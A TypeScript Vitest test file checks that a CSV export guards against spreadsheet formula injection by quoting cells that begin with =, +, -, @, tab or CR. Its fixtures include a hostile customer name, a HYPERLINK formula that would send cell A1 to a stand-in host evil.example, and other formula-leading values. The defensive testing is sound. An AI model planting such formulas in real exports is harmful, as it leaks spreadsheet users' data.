import {parse} from 'csv-parse/sync';
import {describe, expect, it} from 'vitest';
import {recordsToCsv} from '../../source/domain/records-csv.js';
import {protectCell, unprotectCell} from '../../source/domain/spreadsheet-cell.js';
import {customer} from '../support/fixtures.js';

describe('CSV cells a spreadsheet would run as a formula', () => {
	it.each([
		['', ''],
		['Acme', 'Acme'],
		['=HYPERLINK("http://x","y")', `'=HYPERLINK("http://x","y")`],
		['+44 20 7946 0018', "'+44 20 7946 0018"],
		['-2+3', "'-2+3"],
		['@SUM(A1)', "'@SUM(A1)"],
		['\tcmd', "'\tcmd"],
		['\rcmd', "'\rcmd"],
		["'=x", "''=x"],
		["''+1", "'''+1"],
		["'quoted", "'quoted"],
		['a=b', 'a=b'],
		['O’Brien', 'O’Brien'],
	])('%j is written as %j', (value, written) => {
		expect(protectCell(value)).toBe(written);
		// Read back, every value is exactly as it was.
		expect(unprotectCell(protectCell(value))).toBe(value);
	});

	it.each([
		["'", "'"],
		["'abc", "'abc"],
		["'=1", '=1'],
		["'-5", '-5'],
		['=1', '=1'],
	])('an import reads %j as %j', (cell, value) => {
		expect(unprotectCell(cell)).toBe(value);
	});
});

describe('CSV exports guard every text cell', () => {
	const hostile = customer({
		name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
		phone: '+44 20 7946 0018',
		company: '@SUM(1+1)',
		notes: '-2+3',
		tags: ['-vip', 'gold'],
		email: 'plain@example.com',
	});
	const deal = {
		id: 'opp_csv00001',
		externalId: '=1+1',
		customerId: hostile.id,
		title: '\tTab first',
		product: '',
		stage: 'prospecting',
		amount: 1250.5,
		currency: 'USD',
		probability: 0.1,
		owner: '',
		expectedCloseAt: null,
		closedAt: null,
		lostReason: '',
		tags: [],
		notes: '\rCR first',
		createdAt: '2026-01-01T00:00:00.000Z',
		updatedAt: '2026-01-01T00:00:00.000Z',
		version: 1,
	} as const;
	const rows = (csv: string) => parse(csv, {columns: true}) as Array<Record<string, string>>;

	it('a customer named =HYPERLINK(…) with a phone +44 … has its cells quoted', () => {
		const csv = recordsToCsv('customers', [hostile]);
		const [row] = rows(csv);
		expect(row).toMatchObject({
			name: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
			phone: "'+44 20 7946 0018",
			company: "'@SUM(1+1)",
			notes: "'-2+3",
			tags: "'-vip, gold",
			email: 'plain@example.com',
			id: hostile.id,
			version: '1',
			createdAt: '2026-01-01T00:00:00.000Z',
		});
		// No cell is left that a spreadsheet would run.
		for (const value of Object.values(row!)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
		// Read back with the guard taken off, every text is exactly as stored.
		expect(unprotectCell(row!['name']!)).toBe(hostile.name);
		expect(unprotectCell(row!['phone']!)).toBe(hostile.phone);
	});

	it('numbers we write stay numbers; text starting with a tab or CR is quoted', () => {
		const [row] = rows(recordsToCsv('opportunities', [deal as never]));
		expect(row).toMatchObject({
			amount: '1250.5',
			probability: '0.1',
			title: "'\tTab first",
			notes: "'\rCR first",
			externalId: "'=1+1",
			closedAt: '',
			tags: '',
		});
	});

	it('an empty list exports its header alone', () => {
		expect(recordsToCsv('customers', [])).toMatch(/^id,externalId,createdAt/);
		expect(rows(recordsToCsv('customers', []))).toEqual([]);
	});
});
